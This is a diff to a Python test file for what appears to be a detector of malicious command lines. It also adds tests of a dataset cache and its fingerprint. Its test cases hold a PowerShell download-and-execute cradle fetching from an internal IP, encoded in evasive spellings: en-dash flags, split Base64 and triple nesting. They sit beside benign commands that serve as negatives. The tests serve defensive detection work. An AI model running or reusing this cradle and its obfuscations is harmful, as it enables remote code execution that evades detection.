@@ -184,6 +184,10 @@ ORDINARY = [
     "powershell -c \"Write-Host ([char]27+[char]91+[char]50+'J')\"",  # an ANSI escape, not IEX
     "powershell -c \"$Public[0] | Import-Module\"",
     "copy agent.msi \\\\localhost\\c$\\windows\\temp\\agent.msi",
+    "robocopy C:\\data D:\\data /mir > \\\\localhost\\c$\\logs\\robocopy.log",
+    "cmd /c go build -o app.exe . && .\\app.exe",  # compiled and run: nothing was downloaded
+    "gcc -o C:\\build\\hello.exe hello.c && C:\\build\\hello.exe",
+    "powershell -c \"$symbols = [char[]](33,35,36,37,38,42)\"",
 ]
 
 
@@ -237,9 +241,19 @@ CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')"
     f"powershell --EncodedCommand {_encoded(CRADLE)}",
     " ".join(f"-e {_encoded('Get-Date')}" for _ in range(5)) + f" powershell -e {_encoded(CRADLE)}",  # decoys
     f"cmd /c echo x\npowershell -e {_encoded(CRADLE)}",  # a line before it
+    f"powershell \u2013\u2013enc {_encoded(CRADLE)}",
+    f"powershell -enc \"{_encoded(CRADLE)[:12]} {_encoded(CRADLE)[12:40]}  {_encoded(CRADLE)[40:]}\"",
+    f"powershell -e {_encoded('powershell -e ' + _encoded('powershell -e ' + _encoded(CRADLE)))}",  # 3 deep
 ])
 def test_every_spelling_and_position_of_an_encoded_command_is_read(line: str) -> None:
     assert "fetch_and_run" in lone_indicator_names(lone_mask(line))
+
+
+def test_another_programs_e_flag_leaves_the_text_as_it_is() -> None:
+    text = "$wc.DownloadFile($u,$o)\nStart-Process msiexec"
+    for flag in ("sudo -E /usr/local/bin/backup-runner", "sed -e s/abcdefghij/klmnopqrstu/g",
+                 "certutil -encode a.bin"):
+        assert lone_mask(f"{text}\n{flag}") == lone_mask(text) == 0  # no junk decoded, lines kept apart
 
 
 def test_letters_that_only_look_like_base64_are_not_decoded() -> None:
@@ -336,6 +350,11 @@ def test_a_cached_dataset_of_another_feature_version_is_refused(tiny: Dataset, t
     cache.with_suffix(".json").unlink()
     with pytest.raises(StaleCache, match="cannot be read whole"):
         load_dataset(cache)
+    save_dataset(tiny, cache, "built-by-a")
+    whole = cache.read_bytes()
+    cache.write_bytes(whole[: len(whole) // 2])  # a save cut short by an older build, or a full disk
+    with pytest.raises(StaleCache, match="cannot be read whole"):
+        load_dataset(cache, "built-by-a")
 
 
 def test_the_cache_fingerprint_follows_the_settings_and_the_code(monkeypatch: pytest.MonkeyPatch,
@@ -351,6 +370,15 @@ def test_the_cache_fingerprint_follows_the_settings_and_the_code(monkeypatch: py
     before = cache_fingerprint(config)
     (copy / "pipeline" / "b.py").write_text("y = 2\n")  # a module added: another dataset
     assert cache_fingerprint(config) != before
+    after = cache_fingerprint(config)
+    (copy / "pipeline" / ".#b.py").symlink_to(copy / "gone")  # an editor's lock file: not a source
+    assert cache_fingerprint(config) == after
+    captures = tmp_path / "captures"
+    captures.mkdir()
+    with_data = dataclasses.replace(config, captures=captures)
+    empty = cache_fingerprint(with_data)
+    (captures / "session.jsonl").write_text("{}\n")  # a capture added: another dataset
+    assert cache_fingerprint(with_data) != empty
 
 
 def test_a_widened_booster_scores_every_row_as_it_did_on_its_own_columns(tiny: Dataset) -> None:
